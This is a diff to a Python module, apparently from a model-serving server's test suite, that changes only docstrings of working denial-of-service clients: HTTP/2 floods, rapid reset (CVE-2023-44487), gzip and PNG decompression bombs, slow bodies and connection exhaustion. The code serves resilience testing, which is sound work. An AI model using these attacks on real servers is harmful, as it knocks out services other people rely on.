@@ -1,4 +1,4 @@
-"""Clients that mean harm: what each sends, on one connection or many, for some seconds."""
+"""Malicious clients: each attacks a port for some seconds, on one connection or on many."""
 
 import base64
 import http.client
@@ -35,18 +35,18 @@ HEAD = b"POST /predict HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n
 JSON = {"Content-Type": "application/json"}
 PING = b"GET /health/ping HTTP/1.1\r\nHost: x\r\n\r\n"
 
-#: Attacks a port for so many seconds; whether the server has sent the attacker away.
+#: Attacks a port for some seconds; returns whether the server has closed the connection.
 Attack = Callable[[int, float], bool]
 
 
 def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
-    """A frame of HTTP/2 (RFC 9113, 4.1)."""
+    """An HTTP/2 frame (RFC 9113, 4.1)."""
     head = len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
     return head + payload
 
 
 def send(port: int, seconds: float, parts: Iterator[bytes], *, reads: bool = True) -> bool:
-    """Send parts as fast as the server takes them, until it closes or the time is over.
+    """Send parts as fast as the server accepts them, until it closes or the time is over.
 
     Returns whether it has closed.
     """
@@ -64,19 +64,19 @@ def send(port: int, seconds: float, parts: Iterator[bytes], *, reads: bool = Tru
 
 
 def drain(connection: socket.socket, is_closed: threading.Event) -> None:
-    """Read what comes, and keep none of it."""
+    """Read and discard all answers; set `is_closed` when the connection ends."""
     try:
         while connection.recv(2**16):
             pass
     except TimeoutError:
         return
-    except OSError:  # reset, or closed here
+    except OSError:  # reset by the server, or closed by `send`
         pass
     is_closed.set()
 
 
 def flood(kind: int, flags: int, stream: int, payload: bytes, port: int, seconds: float) -> bool:
-    """One kind of frame again and again, on a stream that is open."""
+    """Repeat one kind of frame on an open stream."""
 
     def parts() -> Iterator[bytes]:
         yield PREFACE + frame(4, 0, 0) + frame(4, 1, 0) + frame(1, 4, 1, BLOCK)
@@ -92,7 +92,7 @@ def continuations(port: int, seconds: float) -> bool:
 
 
 def resets(port: int, seconds: float) -> bool:
-    """Streams that are opened and given up at once (CVE-2023-44487)."""
+    """Open streams and reset them at once (CVE-2023-44487)."""
 
     def parts() -> Iterator[bytes]:
         yield PREFACE + frame(4, 0, 0)
@@ -106,7 +106,7 @@ def resets(port: int, seconds: float) -> bool:
 
 
 def over_rest(start: bytes, part: bytes, port: int, seconds: float) -> bool:
-    """Bytes of HTTP/1 again and again, after a start."""
+    """Send `start`, then repeat `part`, over HTTP/1."""
 
     def parts() -> Iterator[bytes]:
         yield start
@@ -116,20 +116,20 @@ def over_rest(start: bytes, part: bytes, port: int, seconds: float) -> bool:
 
 
 def bodies(size: int, part: bytes, port: int, seconds: float) -> bool:
-    """A body of so many bytes, made of parts."""
+    """Send a body of `size` bytes, made of parts."""
     head = HEAD + b"Content-Length: %d\r\n\r\n" % size
     return send(port, seconds, iter([head, *[part] * (size // len(part))]))
 
 
 @cache
 def inflating(megabytes: int) -> bytes:
-    """So much of nothing, compressed with gzip."""
+    """A number of megabytes of zeros, compressed with gzip."""
     packer = zlib.compressobj(9, wbits=16 + zlib.MAX_WBITS)
     return packer.compress(bytes(megabytes * MEGABYTE)) + packer.flush()
 
 
 def rest_bomb(port: int, seconds: float) -> bool:
-    """A body that inflates to 300 MB: a file of gzip's may have several members."""
+    """A body that inflates to 300 MB, as a gzip file with several members."""
     body = inflating(60) * 5
     head = HEAD + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(body)
     return send(port, seconds, iter([head, body]))
@@ -146,14 +146,14 @@ def grpc_bomb(port: int, seconds: float) -> bool:
 
 
 def unread(port: int, seconds: float) -> bool:
-    """Answers of 8 MB that nobody reads."""
+    """Request an answer of 8 MB and never read it."""
     body = b'{"strData":"' + b"a" * (8 * MEGABYTE) + b'"}'
     head = HEAD + b"Content-Length: %d\r\n\r\n" % len(body)
     return send(port, seconds, iter([head, body]), reads=False)
 
 
 def unread_calls(port: int, seconds: float) -> bool:
-    """A call whose answer of 8 MB is for a window of nothing."""
+    """Request an answer of 8 MB with a flow-control window of zero."""
     text = b"a" * (8 * MEGABYTE)
     message = b"\x1a" + bytes([128, 128, 128, 4]) + text  # SeldonMessage.strData
     data = b"\0" + len(message).to_bytes(4, "big") + message
@@ -164,7 +164,7 @@ def unread_calls(port: int, seconds: float) -> bool:
 
 
 def messages(size: int, port: int, seconds: float) -> bool:
-    """A message of so many bytes."""
+    """Send a message of `size` bytes."""
     start = PREFACE + frame(4, 0, 0) + frame(1, 4, 1, BLOCK)
     first = frame(0, 0, 1, b"\0" + size.to_bytes(4, "big"))
     return send(
@@ -173,7 +173,7 @@ def messages(size: int, port: int, seconds: float) -> bool:
 
 
 def without_end(port: int, seconds: float) -> bool:
-    """A body of which a little comes now and then."""
+    """Send a body of 100 MB at ten bytes per second, after its first megabyte."""
 
     def parts() -> Iterator[bytes]:
         yield HEAD + b"Content-Length: %d\r\n\r\n" % (100 * MEGABYTE) + b"a" * MEGABYTE
@@ -186,7 +186,7 @@ def without_end(port: int, seconds: float) -> bool:
 
 @cache
 def image_bomb() -> bytes:
-    """A message with a PNG of 4096 x 4096 pixels, of which it has 50 kB."""
+    """A message with a PNG of 4096 x 4096 pixels in 50 kB."""
 
     def chunk(kind: bytes, content: bytes) -> bytes:
         checksum = struct.pack(">I", zlib.crc32(kind + content))
@@ -200,7 +200,7 @@ def image_bomb() -> bytes:
 
 
 def images(port: int, seconds: float) -> bool:
-    """Images that are small until they are decoded, one after another."""
+    """Send images that are small until they are decoded, one after another."""
     until = time.monotonic() + seconds
     while time.monotonic() < until:
         connection = http.client.HTTPConnection(HOST, port, timeout=seconds)
@@ -212,7 +212,7 @@ def images(port: int, seconds: float) -> bool:
 
 
 def crowd(size: int, port: int, seconds: float) -> bool:
-    """Connections on which nothing is said, from several addresses: each has few ports."""
+    """Open silent connections, from several addresses because each has few ports."""
     _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
     with ExitStack() as stack, suppress(OSError):
@@ -226,13 +226,13 @@ def crowd(size: int, port: int, seconds: float) -> bool:
 
 
 def many(attack: Attack, times: int, port: int, seconds: float) -> bool:
-    """The same by several clients at once."""
+    """Run an attack with several clients at once."""
     with ThreadPoolExecutor(times) as clients:
         return all(clients.map(attack, [port] * times, [seconds] * times))
 
 
 CHUNKED = HEAD + b"Transfer-Encoding: chunked\r\n\r\n"
-#: Floods on one connection, by what they are of, for gRPC's port and for REST's.
+#: Floods on one connection, by name, for gRPC's port and for REST's.
 GRPC_FLOODS: dict[str, Attack] = {
     "pings": partial(flood, 6, 0, 0, b"12345678"),
     "empty data": partial(flood, 0, 0, 1, b""),
@@ -249,9 +249,9 @@ REST_FLOODS: dict[str, Attack] = {
     "chunks of one byte": partial(over_rest, CHUNKED, b"1\r\nx\r\n" * 10_000),
     "header fields without end": partial(over_rest, b"GET / HTTP/1.1\r\n", b"a: b\r\n" * 100),
 }
-#: Floods that the protocol has a word for, with which the attacker is sent away.
+#: Floods for which the protocol has an error, so the server must close the connection.
 SENT_AWAY = {*GRPC_FLOODS, "header fields without end"}
-#: What takes memory, for REST's port and for gRPC's.
+#: Attacks on the memory, by name, for REST's port and for gRPC's.
 REST_HOGS: dict[str, Attack] = {
     "100 bodies of 200 MB": partial(many, partial(bodies, 200 * MEGABYTE, b"a" * MEGABYTE), 100),
     "100 bodies without end": partial(many, without_end, 100),
